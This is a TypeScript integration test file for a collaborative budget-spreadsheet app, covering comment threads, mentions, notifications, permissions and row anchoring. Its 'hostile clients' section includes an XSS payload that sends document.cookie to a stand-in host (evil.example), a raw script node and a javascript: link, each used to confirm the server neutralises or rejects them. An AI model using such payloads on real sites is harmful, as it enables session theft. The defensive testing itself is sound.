import { randomUUID } from 'node:crypto';
import {
  MESSAGES_ROOT,
  THREADS_ROOT,
  createThread,
  decodeUpdateRejected,
  deleteRow,
  formatDiscussionName,
  formatDocumentName,
  getCell,
  insertRow,
  moveRow,
  plainCommentBody,
  readThreads,
  replyToThread,
  setCell,
  setThreadResolved,
  type CommentBody,
} from '@zhospar/collab';
import { io, type Socket } from 'socket.io-client';
import * as Y from 'yjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectClient, synced, waitFor, type TestClient } from '../test/collabClient.ts';
import { login, startTestServer, type TestServer } from '../test/startTestServer.ts';
import { api, createDocument, createUser, demoOrganisations } from '../test/workflowFixtures.ts';
import type { NotificationEvent, RemarksChangedEvent } from '../events/WorkspaceEvents.ts';
import type { ThreadListItem } from './ThreadQueries.ts';

const SHEET = 'f144';

let server: TestServer;
let orgs: Awaited<ReturnType<typeof demoOrganisations>>;
interface Person {
  id: string;
  token: string;
}
let economist: Person; // school 1
let secondEconomist: Person; // school 1
let otherEconomist: Person; // school 2
let curator: Person; // education (АБП), curator of both schools
let approver: Person; // education (АБП)
let admin: Person;
const clients: TestClient[] = [];
const sockets: Socket[] = [];

async function person(iin: string): Promise<Person> {
  const user = await server.prisma.user.findUniqueOrThrow({ where: { iin }, select: { id: true } });
  return { id: user.id, token: await login(server.baseUrl, iin) };
}

function connectCells(who: Person, documentId: string): TestClient {
  const client = connectClient(server.wsUrl, formatDocumentName('budget-request', documentId), who.token);
  clients.push(client);
  return client;
}

function connectDiscussion(who: Person, documentId: string, doc?: Y.Doc): TestClient {
  const client = connectClient(server.wsUrl, formatDiscussionName(documentId), who.token, doc);
  clients.push(client);
  return client;
}

/** A budget request of school 1 with fuel rows r1…r3 (valid values), stored. */
async function documentWithRows(): Promise<string> {
  const documentId = await createDocument(server.prisma, orgs.school1);
  const editor = connectCells(economist, documentId);
  await synced(editor);
  for (const rowId of ['r1', 'r2', 'r3']) {
    insertRow(editor.doc, SHEET, rowId, {});
    for (const [colId, value] of Object.entries({ vehicle: 'ГАЗель', fuel_norm: 10, mileage: 1200, months: 12, price: 300 })) {
      setCell(editor.doc, { sheetId: SHEET, rowId, colId }, value);
    }
  }
  await waitForStored(documentId, (doc) => getCell(doc, { sheetId: SHEET, rowId: 'r3', colId: 'price' }) === 300);
  editor.destroy();
  return documentId;
}

async function waitForStored(documentId: string, ok: (doc: Y.Doc) => boolean): Promise<void> {
  const deadline = Date.now() + 5000;
  for (;;) {
    const row = await server.prisma.document.findUniqueOrThrow({ where: { id: documentId }, select: { yjsState: true } });
    const doc = new Y.Doc();
    if (row.yjsState) Y.applyUpdate(doc, new Uint8Array(row.yjsState));
    if (ok(doc)) return;
    if (Date.now() > deadline) throw new Error('the state was never stored');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

async function threadsOf(who: Person, documentId: string, query = ''): Promise<{ threads: ThreadListItem[]; counts: { open: number; resolved: number; detached: number } }> {
  const result = await api<{ threads: ThreadListItem[]; counts: { open: number; resolved: number; detached: number } }>(
    server.baseUrl,
    `/api/documents/${documentId}/threads${query}`,
    { token: who.token },
  );
  expect(result.status, JSON.stringify(result.body)).toBe(200);
  return result.body;
}

interface Listener {
  socket: Socket;
  notifications: NotificationEvent[];
  remarks: RemarksChangedEvent[];
}

async function listen(who: Person): Promise<Listener> {
  const socket = io(server.baseUrl, { path: '/socket.io', auth: { token: who.token }, transports: ['websocket'], reconnection: false });
  sockets.push(socket);
  const listener: Listener = { socket, notifications: [], remarks: [] };
  socket.on('notification:new', (event: NotificationEvent) => listener.notifications.push(event));
  socket.on('document:remarks-changed', (event: RemarksChangedEvent) => listener.remarks.push(event));
  await new Promise<void>((resolve, reject) => {
    socket.once('ready', () => resolve());
    socket.once('connect_error', (error) => reject(error));
  });
  return listener;
}

function mentionBody(user: Person, label: string, text: string): CommentBody {
  return { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'mention', attrs: { id: user.id, label } }, { type: 'text', text }] }] };
}

/** Server-side discussion doc, live. */
function liveDiscussion(documentId: string): Y.Doc | undefined {
  return server.app.collaboration.hocuspocus.documents.get(formatDiscussionName(documentId));
}

beforeAll(async () => {
  server = await startTestServer();
  orgs = await demoOrganisations(server.prisma);
  economist = await person('850315400124');
  secondEconomist = await person('881102350342');
  otherEconomist = await person('900722450234');
  curator = await person('831204450562');
  approver = await person('910404300670');
  admin = await person('870626300896');
});

afterAll(async () => {
  for (const socket of sockets) socket.disconnect();
  for (const client of clients) client.destroy();
  await server?.close();
});

describe('remarks on a submitted document', () => {
  it('[C7][C3] a curator cannot edit a submitted subordinate’s cells but comments on one; the economist sees it live', async () => {
    const documentId = await documentWithRows();
    expect((await api(server.baseUrl, `/api/documents/${documentId}/submit`, { method: 'POST', token: economist.token })).status).toBe(200);

    const cells = connectCells(curator, documentId);
    await synced(cells);
    setCell(cells.doc, { sheetId: SHEET, rowId: 'r1', colId: 'price' }, 1);
    const remarks = connectDiscussion(curator, documentId);
    const reader = connectDiscussion(economist, documentId);
    await synced(remarks);
    await synced(reader);
    const threadId = randomUUID();
    createThread(remarks.doc, {
      threadId,
      messageId: randomUUID(),
      anchor: { sheetId: SHEET, rowId: 'r2', colId: 'price' },
      authorId: curator.id,
      body: plainCommentBody('Цена за литр выше рыночной'),
      now: Date.now(),
    });
    await waitFor(() => readThreads(reader.doc).length === 1, 'the remark at the economist');
    expect(readThreads(reader.doc)[0]).toMatchObject({ threadId, status: 'open', anchor: { rowId: 'r2' }, authorId: curator.id });

    const listed = await threadsOf(economist, documentId);
    expect(listed.counts).toEqual({ open: 1, resolved: 0, detached: 0 });
    expect(listed.threads[0]).toMatchObject({
      threadId,
      status: 'open',
      detached: false,
      author: { id: curator.id, fullName: expect.stringMatching(/Абенова/) },
      messages: [{ text: 'Цена за литр выше рыночной', body: plainCommentBody('Цена за литр выше рыночной') }],
    });
    // The curator's cell write was dropped (read-only cell connection).
    await new Promise((resolve) => setTimeout(resolve, 200));
    await waitForStored(documentId, (doc) => getCell(doc, { sheetId: SHEET, rowId: 'r1', colId: 'price' }) === 300);
    expect(cells.closes).toEqual([]);
  });

  it('[C5][C6] mention → live notification and inbox; reply → the thread’s participants; resolve; filters', async () => {
    const documentId = await documentWithRows();
    await api(server.baseUrl, `/api/documents/${documentId}/submit`, { method: 'POST', token: economist.token });
    const economistInbox = await listen(economist);
    const curatorInbox = await listen(curator);
    const desk = curatorInbox;

    const remarks = connectDiscussion(curator, documentId);
    await synced(remarks);
    const threadId = randomUUID();
    const first = randomUUID();
    createThread(remarks.doc, {
      threadId,
      messageId: first,
      anchor: { sheetId: SHEET, rowId: 'r1', colId: 'mileage' },
      authorId: curator.id,
      body: mentionBody(economist, 'Сапарова Айгерим', ', обоснуйте пробег'),
      now: Date.now(),
    });
    await waitFor(() => economistInbox.notifications.length === 1, 'the mention at the economist', 5000);
    expect(economistInbox.notifications[0]).toMatchObject({
      kind: 'mention',
      documentId,
      threadId,
      messageId: first,
      anchor: { sheetId: SHEET, rowId: 'r1', colId: 'mileage' },
      actor: { id: curator.id },
      excerpt: '@Сапарова Айгерим, обоснуйте пробег',
      read: false,
    });
    const inbox = await api<{ notifications: NotificationEvent[]; unreadCount: number }>(server.baseUrl, '/api/notifications?unread=true', { token: economist.token });
    expect(inbox.body.unreadCount).toBe(1);
    expect(inbox.body.notifications.map((n) => n.id)).toEqual([economistInbox.notifications[0]!.id]);
    await waitFor(() => desk.remarks.some((r) => r.documentId === documentId && r.openRemarks === 1), 'the desktop counter');

    // The economist replies (economists may comment on their own submitted document).
    const answer = connectDiscussion(economist, documentId);
    await synced(answer);
    replyToThread(answer.doc, { threadId, messageId: randomUUID(), authorId: economist.id, body: plainCommentBody('Маршрут изменился, см. приказ'), now: Date.now() });
    await waitFor(() => curatorInbox.notifications.some((n) => n.kind === 'reply' && n.threadId === threadId), 'the reply at the curator');
    expect(economistInbox.notifications).toHaveLength(1); // nobody is told of their own message

    // A second economist joins the thread; both earlier participants hear of it.
    const colleague = connectDiscussion(secondEconomist, documentId);
    await synced(colleague);
    replyToThread(colleague.doc, { threadId, messageId: randomUUID(), authorId: secondEconomist.id, body: plainCommentBody('Подтверждаю'), now: Date.now() });
    await waitFor(() => economistInbox.notifications.length === 2 && curatorInbox.notifications.filter((n) => n.threadId === threadId).length === 2, 'replies to both');
    expect(economistInbox.notifications[1]).toMatchObject({ kind: 'reply', actor: { id: secondEconomist.id } });

    expect((await threadsOf(economist, documentId, '?mentions=true')).threads).toHaveLength(1);
    expect((await threadsOf(curator, documentId, '?mentions=true')).threads).toHaveLength(0);
    expect((await threadsOf(secondEconomist, documentId, '?mine=true')).threads).toHaveLength(1);
    expect((await threadsOf(curator, documentId, '?q=ПРИКАЗ')).threads).toHaveLength(1);
    expect((await threadsOf(curator, documentId, '?q=бюджет')).threads).toHaveLength(0);

    setThreadResolved(remarks.doc, { threadId, resolved: true, by: curator.id, now: Date.now() });
    await waitFor(() => desk.remarks.some((r) => r.documentId === documentId && r.openRemarks === 0), 'the desktop counter after resolving');
    expect((await threadsOf(curator, documentId, '?status=open')).threads).toHaveLength(0);
    const resolved = await threadsOf(curator, documentId, '?status=resolved');
    expect(resolved.threads[0]).toMatchObject({ status: 'resolved', resolvedBy: { id: curator.id }, messageCount: 3 });

    // Read state.
    const id = economistInbox.notifications[0]!.id;
    expect((await api(server.baseUrl, `/api/notifications/${id}/read`, { method: 'POST', token: economist.token })).status).toBe(200);
    expect((await api(server.baseUrl, `/api/notifications/${id}/read`, { method: 'POST', token: curator.token })).status).toBe(404);
    expect((await api<{ unreadCount: number }>(server.baseUrl, '/api/notifications', { token: economist.token })).body.unreadCount).toBe(1);
    expect((await api<{ marked: number }>(server.baseUrl, '/api/notifications/read-all', { method: 'POST', token: economist.token })).body.marked).toBe(1);
    const after = await api<{ notifications: NotificationEvent[]; unreadCount: number }>(server.baseUrl, '/api/notifications', { token: economist.token });
    expect(after.body.unreadCount).toBe(0);
    expect(after.body.notifications.every((n) => n.read)).toBe(true);
  });

  it('[C5] mentions of people without access to the document notify nobody; mentionable users are those with access', async () => {
    const documentId = await documentWithRows();
    const outsider = await listen(otherEconomist);
    const remarks = connectDiscussion(curator, documentId);
    await synced(remarks);
    createThread(remarks.doc, {
      threadId: randomUUID(),
      messageId: randomUUID(),
      anchor: { sheetId: SHEET, rowId: 'r1', colId: 'price' },
      authorId: curator.id,
      body: mentionBody(otherEconomist, 'Ахметова', ' посмотрите'),
      now: Date.now(),
    });
    await new Promise((resolve) => setTimeout(resolve, 300));
    await server.app.comments.notifications.flush();
    expect(outsider.notifications).toEqual([]);
    expect(await server.prisma.notification.count({ where: { userId: otherEconomist.id } })).toBe(0);

    const all = await api<{ users: Array<{ id: string; fullName: string }> }>(server.baseUrl, `/api/documents/${documentId}/mentionable-users`, { token: curator.token });
    const ids = all.body.users.map((u) => u.id);
    expect(ids).toEqual(expect.arrayContaining([economist.id, secondEconomist.id, curator.id, approver.id]));
    expect(ids).not.toContain(otherEconomist.id);
    const found = await api<{ users: Array<{ id: string }> }>(server.baseUrl, `/api/documents/${documentId}/mentionable-users?q=сапар`, { token: curator.token });
    expect(found.body.users.map((u) => u.id)).toEqual([economist.id]);
    expect((await api(server.baseUrl, `/api/documents/${documentId}/mentionable-users`, { token: otherEconomist.token })).status).toBe(404);
  });

  it('[C7] a user who may only read (admin) gets a read-only discussion: writes are never applied', async () => {
    const documentId = await documentWithRows();
    const watcher = connectDiscussion(admin, documentId);
    await synced(watcher);
    createThread(watcher.doc, {
      threadId: randomUUID(),
      messageId: randomUUID(),
      anchor: { sheetId: SHEET, rowId: 'r1', colId: 'price' },
      authorId: admin.id,
      body: plainCommentBody('не должно попасть'),
      now: Date.now(),
    });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(readThreads(liveDiscussion(documentId)!)).toEqual([]);
    expect((await threadsOf(curator, documentId)).threads).toEqual([]);
  });
});

describe('hostile clients', () => {
  let documentId: string;
  let threadId: string;
  let messageId: string;

  beforeAll(async () => {
    documentId = await documentWithRows();
    const remarks = connectDiscussion(curator, documentId);
    await synced(remarks);
    threadId = randomUUID();
    messageId = randomUUID();
    createThread(remarks.doc, {
      threadId,
      messageId,
      anchor: { sheetId: SHEET, rowId: 'r1', colId: 'price' },
      authorId: curator.id,
      body: plainCommentBody('Исходное замечание'),
      now: Date.now(),
    });
    await waitFor(() => readThreads(liveDiscussion(documentId) ?? new Y.Doc()).length === 1, 'the thread on the server');
    await server.app.comments.projection.flush();
  });

  function serverState(): string {
    return JSON.stringify(liveDiscussion(documentId)?.toJSON());
  }

  /** Connects as `who`, makes `write` on a synced copy, and expects the server to refuse it with `reason`. */
  async function refused(who: Person, reason: string, write: (doc: Y.Doc) => void): Promise<void> {
    const before = serverState();
    const storedBefore = await server.prisma.commentMessage.findMany({ where: { documentId }, orderBy: { messageId: 'asc' } });
    const connections = (): number => server.app.collaboration.hocuspocus.documents.get(formatDiscussionName(documentId))?.getConnectionsCount() ?? 0;
    const client = connectDiscussion(who, documentId);
    await synced(client);
    const open = connections();
    write(client.doc);
    await waitFor(() => client.stateless.some((p) => decodeUpdateRejected(p) !== null), `the ${reason} rejection`);
    expect(decodeUpdateRejected(client.stateless.find((p) => decodeUpdateRejected(p) !== null)!)).toMatchObject({ reason });
    // [P8]: the server drops the document connection (the multiplexed socket itself stays).
    await waitFor(() => connections() < open, 'the closed document connection');
    client.destroy();
    await new Promise((resolve) => setTimeout(resolve, 150));
    await server.app.comments.projection.flush();
    expect(serverState()).toBe(before);
    expect(await server.prisma.commentMessage.findMany({ where: { documentId }, orderBy: { messageId: 'asc' } })).toEqual(storedBefore);
  }

  it('[C11] "<script>" typed as text stays text: stored and served as a text node', async () => {
    const client = connectDiscussion(economist, documentId);
    await synced(client);
    const text = '<script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)>';
    replyToThread(client.doc, { threadId, messageId: randomUUID(), authorId: economist.id, body: plainCommentBody(text), now: Date.now() });
    await waitFor(() => (readThreads(liveDiscussion(documentId)!)[0]?.messageCount ?? 0) === 2, 'the reply on the server');
    const listed = await threadsOf(curator, documentId);
    const reply = listed.threads[0]!.messages.find((m) => m.author.id === economist.id)!;
    expect(reply.body).toEqual({ type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text }] }] });
    expect(reply.text).toBe(text);
    expect(client.stateless.filter((p) => decodeUpdateRejected(p) !== null)).toEqual([]);
  });

  it('[C11][C13] a raw HTML node is rejected and changes nothing', async () => {
    await refused(economist, 'invalid-body', (doc) => {
      doc.getMap(MESSAGES_ROOT).set(`${threadId}/${randomUUID()}`, {
        authorId: economist.id,
        createdAt: Date.now(),
        body: { type: 'doc', content: [{ type: 'html', text: '<script>alert(1)</script>' }] },
      });
    });
  });

  it('[C12][C13] a javascript: link is rejected and changes nothing', async () => {
    await refused(economist, 'invalid-body', (doc) => {
      replyToThreadUnchecked(doc, economist.id, {
        type: 'doc',
        content: [{ type: 'paragraph', content: [{ type: 'text', text: 'открыть', marks: [{ type: 'link', attrs: { href: 'javascript:alert(document.cookie)' } }] }] }],
      });
    });
  });

  it('[C9][C13] a forged authorId is rejected and changes nothing', async () => {
    await refused(economist, 'not-author', (doc) => replyToThreadUnchecked(doc, curator.id, plainCommentBody('Замечание снято, всё верно')));
  });

  it('[C5][C13] editing someone else’s message is rejected and changes nothing', async () => {
    await refused(economist, 'not-author', (doc) => {
      doc.getMap(MESSAGES_ROOT).set(`${threadId}/${messageId}`, {
        authorId: economist.id,
        body: plainCommentBody('Замечаний нет'),
        createdAt: (doc.getMap(MESSAGES_ROOT).get(`${threadId}/${messageId}`) as { createdAt: number }).createdAt,
        editedAt: Date.now(),
      });
    });
    await refused(economist, 'not-author', (doc) => doc.getMap(MESSAGES_ROOT).delete(`${threadId}/${messageId}`));
  });

  it('[C12][C13] an oversize body is rejected and changes nothing', async () => {
    await refused(economist, 'invalid-body', (doc) => replyToThreadUnchecked(doc, economist.id, plainCommentBody('а'.repeat(10_001))));
  });

  it('[C4][C13] moving a thread to another cell is rejected', async () => {
    await refused(curator, 'comment-immutable', (doc) => {
      doc.getMap(THREADS_ROOT).set(threadId, { anchor: { sheetId: SHEET, rowId: 'r2', colId: 'price' }, authorId: curator.id, createdAt: Date.now() });
    });
  });

  function replyToThreadUnchecked(doc: Y.Doc, authorId: string, body: unknown): void {
    doc.getMap(MESSAGES_ROOT).set(`${threadId}/${randomUUID()}`, { authorId, body, createdAt: Date.now() });
  }
});

describe('anchors, desktop and approval', () => {
  it('[C3] a thread stays on its cell while rows are inserted and reordered concurrently; a deleted row detaches it, it is not lost', async () => {
    const documentId = await documentWithRows();
    const a = connectCells(economist, documentId);
    const b = connectCells(secondEconomist, documentId);
    const remarks = connectDiscussion(curator, documentId);
    await Promise.all([synced(a), synced(b), synced(remarks)]);
    const threadId = randomUUID();
    // Concurrently: the curator comments on r2 while one economist inserts rows above it and the other moves it.
    createThread(remarks.doc, {
      threadId,
      messageId: randomUUID(),
      anchor: { sheetId: SHEET, rowId: 'r2', colId: 'price' },
      authorId: curator.id,
      body: plainCommentBody('Проверьте цену'),
      now: Date.now(),
    });
    insertRow(a.doc, SHEET, 'new-top', { after: null });
    insertRow(a.doc, SHEET, 'new-mid', { after: 'r1' });
    moveRow(b.doc, SHEET, 'r2', { after: 'r3' });
    moveRow(b.doc, SHEET, 'r1', { after: 'r2' });
    await waitFor(() => a.doc.getMap(`rows:${SHEET}`).size === 5 && b.doc.getMap(`rows:${SHEET}`).size === 5, 'the row changes everywhere');
    await server.app.comments.projection.flush();
    let listed = await threadsOf(curator, documentId);
    expect(listed.threads).toHaveLength(1);
    expect(listed.threads[0]).toMatchObject({ threadId, anchor: { sheetId: SHEET, rowId: 'r2', colId: 'price' }, detached: false });

    deleteRow(b.doc, SHEET, 'r2');
    await waitFor(() => !a.doc.getMap(`rows:${SHEET}`).has('r2'), 'the deletion at the other economist');
    await new Promise((resolve) => setTimeout(resolve, 50));
    listed = await threadsOf(curator, documentId);
    expect(listed.threads[0]).toMatchObject({ threadId, status: 'open', detached: true, messageCount: 1 });
    expect(listed.counts).toEqual({ open: 1, resolved: 0, detached: 1 });
    expect((await threadsOf(curator, documentId, '?detached=false')).threads).toEqual([]);
    // Undo of the deletion brings the row back, and the thread is anchored again.
    insertRow(b.doc, SHEET, 'r2', { after: 'r3' });
    await new Promise((resolve) => setTimeout(resolve, 50));
    await server.app.comments.projection.flush();
    expect((await threadsOf(curator, documentId)).threads[0]).toMatchObject({ detached: false });
  });

  it('the curator’s desktop counts open remarks per document from the projection; the approval snapshot records open threads', async () => {
    const documentId = await documentWithRows();
    await api(server.baseUrl, `/api/documents/${documentId}/submit`, { method: 'POST', token: economist.token });
    const remarks = connectDiscussion(curator, documentId);
    await synced(remarks);
    const open1 = randomUUID();
    const open2 = randomUUID();
    const done = randomUUID();
    for (const [threadId, rowId] of [
      [open1, 'r1'],
      [open2, 'r2'],
      [done, 'r3'],
    ] as const) {
      createThread(remarks.doc, {
        threadId,
        messageId: randomUUID(),
        anchor: { sheetId: SHEET, rowId, colId: 'price' },
        authorId: curator.id,
        body: plainCommentBody(`Замечание по ${rowId}`),
        now: Date.now(),
      });
    }
    setThreadResolved(remarks.doc, { threadId: done, resolved: true, by: curator.id, now: Date.now() });
    await waitFor(() => readThreads(liveDiscussion(documentId) ?? new Y.Doc()).filter((t) => t.status === 'resolved').length === 1, 'the threads on the server');
    // The desktop reads the projection, which is written off the hot path: wait for it.
    await server.app.comments.projection.flush();

    type Desk = { documents: Array<{ document: { id: string }; openRemarks: number }> };
    const desk = await api<Desk>(server.baseUrl, '/api/desktop', { token: curator.token });
    expect(desk.body.documents.find((d) => d.document.id === documentId)?.openRemarks).toBe(2);

    expect((await api(server.baseUrl, `/api/documents/${documentId}/approve`, { method: 'POST', token: approver.token })).status).toBe(200);
    const snapshot = await api<{ openThreadIds: string[] }>(server.baseUrl, `/api/documents/${documentId}/snapshot`, { token: approver.token });
    expect(snapshot.status).toBe(200);
    expect(snapshot.body.openThreadIds).toEqual([open1, open2].sort());

    // Remarks may still be discussed after approval; the snapshot keeps what was open then.
    setThreadResolved(remarks.doc, { threadId: open1, resolved: true, by: curator.id, now: Date.now() });
    await waitFor(() => readThreads(liveDiscussion(documentId)!).filter((t) => t.status === 'resolved').length === 2, 'the resolution');
    const later = await api<Desk>(server.baseUrl, '/api/desktop', { token: curator.token });
    expect(later.body.documents.find((d) => d.document.id === documentId)?.openRemarks).toBe(1);
    expect((await api<{ openThreadIds: string[] }>(server.baseUrl, `/api/documents/${documentId}/snapshot`, { token: approver.token })).body.openThreadIds).toEqual([open1, open2].sort());
  });

  it('[C1] the discussion is stored and survives a server restart', async () => {
    const documentId = await documentWithRows();
    const remarks = connectDiscussion(curator, documentId);
    await synced(remarks);
    const threadId = randomUUID();
    createThread(remarks.doc, {
      threadId,
      messageId: randomUUID(),
      anchor: { sheetId: SHEET, rowId: 'r1', colId: 'price' },
      authorId: curator.id,
      body: plainCommentBody('Сохранится'),
      now: Date.now(),
    });
    await waitFor(() => readThreads(liveDiscussion(documentId) ?? new Y.Doc()).length === 1, 'the thread on the server');
    remarks.destroy();
    for (const client of clients) client.destroy();
    clients.length = 0;
    server = await server.restart();
    const fresh = connectDiscussion(economist, documentId, new Y.Doc());
    await synced(fresh);
    await waitFor(() => readThreads(fresh.doc).length === 1, 'the stored thread');
    expect(readThreads(fresh.doc)[0]?.threadId).toBe(threadId);
    const row = await server.prisma.discussionDoc.findUniqueOrThrow({ where: { documentId } });
    expect(row.stateVersion).toBeGreaterThan(0);
  });

  it('a status change re-reads comment rights before the next write (rights follow the policy)', async () => {
    const documentId = await documentWithRows();
    const created = await createUser(server.prisma, server.baseUrl, 'CURATOR', orgs.education, 'Куратор (тест)');
    const remarks = connectDiscussion({ id: created.id, token: created.token }, documentId);
    await synced(remarks);
    await api(server.baseUrl, `/api/documents/${documentId}/submit`, { method: 'POST', token: economist.token });
    createThread(remarks.doc, {
      threadId: randomUUID(),
      messageId: randomUUID(),
      anchor: { sheetId: SHEET, rowId: 'r1', colId: 'price' },
      authorId: created.id,
      body: plainCommentBody('После отправки'),
      now: Date.now(),
    });
    await waitFor(() => readThreads(liveDiscussion(documentId) ?? new Y.Doc()).length === 1, 'the remark after the status change');
  });
});
